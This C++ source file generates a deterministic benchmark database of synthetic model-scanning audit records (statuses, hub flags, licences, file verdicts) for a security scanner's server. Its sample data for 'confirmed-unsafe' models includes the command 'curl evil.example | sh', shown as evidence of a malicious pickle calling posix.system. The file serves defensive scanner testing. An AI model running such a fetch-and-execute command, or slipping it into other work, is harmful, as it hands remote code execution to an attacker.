// Writes a store of N generated models (default 100,000) for the server benchmark
// (bench/serve_bench.sh, docs/benchmarks.md): the mix of statuses, hub flags, licences, file
// counts and verdicts of a hub audit, with download counts spread like the hub's (a few huge,
// most small). Every model goes through Store::CommitAudit (or UpsertListing for the ones never
// audited), so the rows, indexes and history are what real audits write. Deterministic: the
// same N gives the same store.
//
//   build/bench/gen_models_store OUT.db [N]
#include <fmt/format.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <random>
#include <string>

#include "store/store.h"

namespace {

using mv::store::AuditCommit;
using mv::store::FileRecord;
using mv::store::ModelRecord;
using mv::store::ModelStatus;
using mv::store::StatusSource;

const char* kOrgs[] = {
    "meta-llama",  "google",      "microsoft",  "openai",   "mistralai",
    "qwen",        "stabilityai", "bigscience", "facebook", "sentence-transformers",
    "ultralytics", "thebloke",    "nvidia",     "apple",    "allenai",
    "eleutherai"};
const char* kWords[] = {"bert",      "llama",   "gpt",     "whisper", "vit",     "t5",      "clip",
                        "yolo",      "mistral", "phi",     "gemma",   "roberta", "deberta", "sam",
                        "diffusion", "resnet",  "wav2vec", "bart",    "opt",     "falcon"};
const char* kSizes[] = {"tiny", "small", "base", "large", "xl", "7b", "13b", "70b", "mini"};
struct Lic {
  const char* id;
  const char* risk;
};
const Lic kLicenses[] = {{"apache-2.0", "permissive"},        {"mit", "permissive"},
                         {"cc-by-nc-4.0", "non-commercial"},  {"llama3", "use-restricted"},
                         {"openrail", "use-restricted"},      {"gpl-3.0", "strong-copyleft"},
                         {"lgpl-3.0", "weak-copyleft"},       {"cc0-1.0", "public-domain"},
                         {"other:custom-license", "unknown"}, {"", "unknown"}};

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: gen_models_store OUT.db [N]\n");
    return 2;
  }
  std::string out = argv[1];
  long n = argc > 2 ? std::atol(argv[2]) : 100000;
  std::error_code ec;
  for (const char* ext : {"", "-wal", "-shm"}) std::filesystem::remove(out + ext, ec);
  auto opened = mv::store::OpenSqliteStore(out);
  if (!opened.ok()) {
    std::fprintf(stderr, "gen_models_store: %s\n", opened.error().message.c_str());
    return 2;
  }
  mv::store::Store& st = **opened;
  std::mt19937_64 rng(20261006);
  auto pick = [&](size_t k) { return static_cast<size_t>(rng() % k); };
  auto chance = [&](double p) { return std::uniform_real_distribution<>(0, 1)(rng) < p; };
  std::lognormal_distribution<> downloads(6.0, 3.0);

  for (long i = 0; i < n; ++i) {
    std::string org = kOrgs[pick(std::size(kOrgs))];
    std::string id = fmt::format("{}/{}-{}-{}", org, kWords[pick(std::size(kWords))],
                                 kSizes[pick(std::size(kSizes))], i);
    const Lic& lic = kLicenses[pick(std::size(kLicenses))];
    ModelRecord m;
    m.id = id;
    m.author = org;
    m.downloads = static_cast<uint64_t>(std::min(downloads(rng), 5e8));
    m.likes = m.downloads / 200;
    m.license = lic.id;
    m.license_risk = lic.risk;
    // Statuses: mostly clean; the hub flags a share, most of them false positives.
    double r = std::uniform_real_distribution<>(0, 1)(rng);
    std::string status = r < 0.08   ? ""
                         : r < 0.70 ? "no-findings"
                         : r < 0.86 ? "false-positive"
                         : r < 0.97 ? "suspected"
                                    : "confirmed-unsafe";
    bool flagged = status == "false-positive" || (status == "suspected" && chance(0.7)) ||
                   (status == "confirmed-unsafe" && chance(0.8));
    if (flagged) {
      m.hub_flag = chance(0.5) ? "unsafe" : (chance(0.5) ? "suspicious" : "caution");
      m.hub_message = "pytorch_model.bin: pickle imports: builtins.getattr (dangerous)";
    }
    if (status.empty()) {
      auto s = st.UpsertListing(m);
      if (!s.ok()) {
        std::fprintf(stderr, "gen_models_store: %s\n", s.error().message.c_str());
        return 2;
      }
      continue;
    }
    m.status = mv::EnumFromText<ModelStatus>(status);
    m.missed_by_hub = status == "confirmed-unsafe" && !flagged;
    m.status_source = chance(0.1) ? StatusSource::kReviewer : StatusSource::kAutomatic;
    m.sha = fmt::format("{:040x}", rng() & 0xffffffffffffull);
    m.last_audit = fmt::format("2026-{:02}-{:02}T{:02}:{:02}:00Z", 1 + pick(12), 1 + pick(28),
                               pick(24), pick(60));
    m.verification = status == "confirmed-unsafe" ? "Verified unsafe: runs the shell command "
                                                    "`curl evil.example | sh` on load"
                     : status == "suspected"      ? "Needs review: pytorch_model.bin: calls "
                                                    "acme.CustomNet, not in the knowledge base"
                     : status == "false-positive"
                         ? "False positive: builtins.getattr only resolves methods of benign "
                           "objects"
                         : "No findings: 3 files checked, none flagged by the hub";
    AuditCommit a;
    a.model = m;
    size_t files = 1 + pick(6);
    for (size_t f = 0; f < files; ++f) {
      FileRecord fr;
      fr.path = f == 0 ? "pytorch_model.bin" : fmt::format("shard-{:05}.safetensors", f);
      fr.sha256 = fmt::format("{:064x}", rng());
      fr.size = 1000 + rng() % 4000000000ull;
      fr.hub_status = f == 0 && flagged ? m.hub_flag : "safe";
      fr.verdict = mv::EnumFromText<mv::Verdict>(f > 0                          ? "safe"
                                                 : status == "confirmed-unsafe" ? "unsafe"
                                                 : status == "suspected"        ? "needs-review"
                                                                                : "safe");
      fr.summary = "generated";
      fr.bytes_read = 4096;
      if (fr.verdict == mv::Verdict::kUnsafe)
        fr.report_json =
            R"j({"format":"pytorch-zip","loader":"torch.load","verdict":"unsafe","summary":"runs a shell command","findings":[{"severity":"critical","category":"process","rule":"stdlib.toml:os.system","callable":"posix.system","evidence":"posix.system('curl evil.example | sh')","location":"archive/data.pkl@61","message":"runs a shell command"}]})j";
      a.files.push_back(fr);
    }
    a.scan.revision = "main";
    a.scan.sha = m.sha;
    a.scan.started = a.scan.finished = m.last_audit;
    a.scan.files_total = a.scan.files_scanned = files;
    a.scan.tool_version = "modelvet bench";
    mv::store::StatusChange c;
    c.time = m.last_audit;
    c.to = *m.status;
    c.missed_by_hub = m.missed_by_hub;
    c.source = *m.status_source;
    c.who = c.source == StatusSource::kReviewer ? "bench-reviewer" : "modelvet bench";
    c.reason = "generated";
    a.changes.push_back(c);
    auto id_or = st.CommitAudit(a);
    if (!id_or.ok()) {
      std::fprintf(stderr, "gen_models_store: %s: %s\n", id.c_str(), id_or.error().message.c_str());
      return 2;
    }
    if (i % 10000 == 0) std::fprintf(stderr, "\r%ld / %ld", i, n);
  }
  std::fprintf(stderr, "\r%ld models written to %s\n", n, out.c_str());
  return 0;
}
